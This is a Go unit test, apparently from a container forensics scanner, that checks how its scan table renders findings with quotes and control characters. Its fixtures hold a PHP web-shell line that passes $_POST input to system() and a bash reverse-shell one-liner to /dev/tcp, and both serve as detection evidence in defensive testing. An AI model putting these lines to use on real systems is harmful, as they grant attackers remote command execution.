package main

import (
	"bytes"
	"strings"
	"testing"

	"github.com/ctrforensics/ctrforensics/forensic/finding"
	"github.com/ctrforensics/ctrforensics/forensic/scan"
	"github.com/ctrforensics/ctrforensics/snapshot"
)

// TestScanTableReason: the table prints a reason as written (quotes and
// backslashes are the evidence's own) on one line (control characters
// escaped).
func TestScanTableReason(t *testing.T) {
	res := &snapshot.ScanResult{Target: "container/x", Report: &scan.Report{Findings: []scan.Finding{
		{Rule: scan.RuleWebShell, Severity: finding.High, Path: "/var/www/x.php", Layer: -1,
			Reason: `PHP file passes request input or decoded data to execution: echo system( $_POST["c"] ); \x65`},
		{Rule: scan.RuleReverseShell, Severity: finding.High, Path: "/etc/cron.d/x", Layer: -1,
			Reason: "shell one-liner: bash -i >& /dev/tcp/h/1 0>&1\n\x1b[2J"},
	}}}
	var b bytes.Buffer
	if err := writeScanTable(&b, res); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	for _, want := range []string{`system( $_POST["c"] ); \x65`, `0>&1\n\x1b[2J`} {
		if !strings.Contains(out, want) {
			t.Errorf("table lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, `\"`) || strings.Contains(out, "\x1b") {
		t.Errorf("escaped quotes or a raw control character:\n%s", out)
	}
	if n := strings.Count(out, "\n"); n != 5 { // header, 2 findings, blank, summary
		t.Errorf("%d lines:\n%s", n, out)
	}
}
